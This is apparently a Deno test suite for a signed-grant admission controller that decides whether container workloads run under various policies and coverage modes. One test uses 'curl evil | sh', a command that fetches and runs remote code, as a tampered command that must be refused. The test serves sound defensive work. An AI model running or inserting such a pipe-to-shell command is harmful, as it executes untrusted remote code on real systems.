import assert from "node:assert/strict";
import { signGrant } from "../crypto/signing.ts";
import { assertMalformed } from "../assertions.ts";
import { admitWorkload } from "./admission.ts";
import type { AdmissionQuestion } from "./admission.ts";
import { dispatchedSpec, templateSpec } from "./forge_fixture.ts";
import { grantFromSpec } from "./grant.ts";
import { encodeGrantDocument } from "./grant_document.ts";
import { resolvePosture } from "./posture.ts";
import {
  admit,
  annotate,
  DOCUMENT,
  KEY,
  NOBODY,
  refused,
  SEED,
  signed,
  VOUCHED,
} from "./signed_fixture.ts";

const NESTED = { "yah.sandbox": "nested" };

Deno.test("a signed dispatch is admitted, on the authority of its recipe and key", () => {
  for (const policy of ["permissive", "required"] as const) {
    assert.deepEqual(admit(signed(), { policy }), VOUCHED);
  }
});

Deno.test("a workload without a grant passes permissive and fails required", () => {
  assert.deepEqual(admit(dispatchedSpec(), { trustedKeys: [] }), NOBODY);
  refused(admit(dispatchedSpec(), { policy: "required" }), "L7", "grant_required", {
    because: "policy",
  });
});

Deno.test("the nested sandbox needs a grant under every policy but disabled", () => {
  const spec = annotate(dispatchedSpec(), NESTED);
  refused(admit(spec), "L7", "grant_required", { because: "nested_sandbox" });
  refused(admit(spec, { policy: "required" }), "L7", "grant_required", { because: "policy" });
  assert.deepEqual(admit(spec, { policy: "disabled" }), NOBODY);
});

Deno.test("outside a container there is nothing to widen, and the policy alone decides", () => {
  for (const runtime of ["native", "microvm"]) {
    const spec = annotate(dispatchedSpec(), { ...NESTED, "yah.exec": runtime });
    assert.deepEqual(admit(spec), NOBODY);
    refused(admit(spec, { policy: "required" }), "L7", "grant_required", { because: "policy" });
  }
  // No runtime by this name: a container, and the widening counts.
  const spec = annotate(dispatchedSpec(), { ...NESTED, "yah.exec": "Native" });
  refused(admit(spec), "L7", "grant_required", { because: "nested_sandbox" });
});

Deno.test("a grant that covers the nested sandbox admits it", () => {
  const annotations = { ...dispatchedSpec().annotations, ...NESTED };
  const document = encodeGrantDocument(grantFromSpec("compiler", templateSpec({ annotations })));
  assert.deepEqual(admit(signed({ spec: dispatchedSpec({ annotations }), document })), VOUCHED);
  refused(admit(signed({ spec: dispatchedSpec({ annotations }) })), "L3", "mismatch", {
    field: "nested-sandbox",
    path: "/annotations/yah.sandbox",
    admitted: false,
    found: true,
  });
});

Deno.test("disabled admits whatever it is shown, and vouches for nothing", () => {
  const broken = annotate(signed(), { "yah.admission.signature": "not hex" });
  assert.deepEqual(admit(broken, { policy: "disabled", trustedKeys: [] }), NOBODY);
  assert.deepEqual(admit(signed(), { policy: "disabled" }), NOBODY);
});

Deno.test("a part of a grant is an error and never an absence", () => {
  const parts = ["yah.admission.grant", "yah.admission.signature", "yah.admission.key"];
  for (const missing of parts) {
    refused(admit(annotate(signed(), { [missing]: undefined })), "L7", "incomplete", { missing });
  }
  // One part alone, though it be empty; of two that are missing, the first is named.
  const alone = ["yah.admission.signature", "yah.admission.grant", "yah.admission.grant"];
  for (const [index, missing] of alone.entries()) {
    const spec = annotate(dispatchedSpec(), { [parts[index]!]: "" });
    refused(admit(spec), "L7", "incomplete", { missing });
  }
});

Deno.test("a signed text that is no grant is refused with what is wrong in it", () => {
  const faults: [string, Record<string, unknown>][] = [
    ["", { error: "bad_magic" }],
    [DOCUMENT.replace("/v2", "/v3"), { error: "bad_magic" }],
    [DOCUMENT.replace("tier 5", "rank 5"), {
      error: "unexpected_label",
      expected: "tier",
      found: "rank",
    }],
    [DOCUMENT.replace("recipe 8", "recipe 99999"), { error: "truncated", label: "recipe" }],
    [DOCUMENT.replace("container", "Container"), { error: "bad_value", label: "runtime" }],
    [DOCUMENT + "é", { error: "trailing", bytes: 2 }],
    [DOCUMENT.replace("recipe 8", "recipe 08"), { error: "not_canonical" }],
  ];
  for (const [document, fault] of faults) {
    refused(admit(signed({ document })), "L7", "grant_malformed", fault);
  }
});

Deno.test("a spec that is changed under a valid signature is caught by coverage", () => {
  const spec = { ...signed(), command: ["curl evil | sh"] };
  refused(admit(spec), "L3", "mismatch", {
    field: "argv",
    path: "/command/0",
    admitted: "compile.sh '{{target}}' '{{out}}'",
    found: "curl evil | sh",
  });
});

Deno.test("every failure of coverage is reported beside the first", () => {
  const verdict = admit({ ...signed(), tier: "tenant", command: [] });
  assert.ok(!verdict.granted);
  const fields = [verdict.reason, ...verdict.also ?? []].map((why) =>
    why.code === "mismatch" ? why.field : why.code
  );
  assert.deepEqual(fields, ["tier", "argv"]);
});

Deno.test("strict refuses what no grant speaks of, and reference warns of it", () => {
  const spec = signed({ spec: dispatchedSpec({ user: "0:0" }) });
  refused(admit(spec), "L7", "uncovered", { path: "/user" });
  refused(admit(spec, { coverage: "strict" }), "L7", "uncovered", { path: "/user" });

  const { warnings, ...verdict } = admit(spec, { coverage: "reference" });
  assert.deepEqual({ ...verdict, warnings: [] }, VOUCHED);
  assert.deepEqual(warnings.map(({ message: _, ...facts }) => facts), [
    { code: "uncovered", path: "/user" },
  ]);
});

Deno.test("of a key that is none only the beginning is quoted: it may be a whole document", () => {
  const spec = annotate(signed(), { "yah.admission.key": "k".repeat(300) });
  refused(admit(spec), "L6", "untrusted_key", { key: "k".repeat(256) + "…" });
});

Deno.test("what is no question is malformed, under every policy", () => {
  for (const policy of ["disabled", "permissive", "required"] as const) {
    const faults: [Record<string, unknown>, Record<string, unknown>][] = [
      [{ spec: { ...dispatchedSpec(), privileged: true } }, {
        code: "unknown_field",
        path: "/spec/privileged",
      }],
      [{ spec: annotate(signed(), { "yah.admission.grant": "\ud800" }) }, {
        code: "lone_surrogate",
        path: "/spec/annotations/yah.admission.grant",
      }],
      [{ policy: "Required" }, { code: "unknown_variant", path: "/policy" }],
      [{ trustedKeys: KEY }, { code: "wrong_type", path: "/trustedKeys" }],
      [{ trustedKeys: [KEY, null] }, { code: "wrong_type", path: "/trustedKeys/1" }],
      [{ coverage: "lenient" }, { code: "unknown_variant", path: "/coverage" }],
      [{ coverage: null }, { code: "wrong_type", path: "/coverage" }],
      [{ coverag: "strict" }, { code: "unknown_field", path: "/coverag" }],
      [{ trusted_keys: [] }, { code: "unknown_field", path: "/trusted_keys" }],
      [{ verify: true }, { code: "wrong_type", path: "/verify" }],
      [{ verify: null }, { code: "wrong_type", path: "/verify" }],
    ];
    for (const [question, fault] of faults) {
      assert.throws(
        () => admit(signed(), { policy, ...question } as Partial<AdmissionQuestion>),
        { name: "MalformedError", ...fault },
      );
    }
  }
});

Deno.test("a posture may be spread into an admission, and nothing else", () => {
  const posture = resolvePosture({ policy: "required", keys: `${KEY},${KEY.toUpperCase()}` });
  assert.equal(posture.warnings.length, 1);
  assert.equal(admitWorkload({ spec: signed(), ...posture }).granted, true);
  assertMalformed(
    () => admitWorkload({ spec: signed(), ...posture, polcy: "disabled" } as never),
    "unknown_field",
    "/polcy",
    { known: ["spec", "policy", "trustedKeys", "coverage", "verify"] },
  );
});

Deno.test("a verdict is frozen, and quotes neither the document nor the signature", () => {
  const signature = signGrant(DOCUMENT, SEED);
  const verdicts = [
    admit(signed()),
    admit(annotate(signed(), { "yah.admission.grant": DOCUMENT + "x" })),
    admit(signed({ document: DOCUMENT + "x" })),
    admit(annotate(signed(), { "yah.admission.signature": signature + "00" })),
  ];
  for (const verdict of verdicts) {
    assert.ok(Object.isFrozen(verdict));
    const text = JSON.stringify(verdict);
    assert.ok(!text.includes(signature) && !text.includes("yah-admission-grant/v2"), text);
  }
});
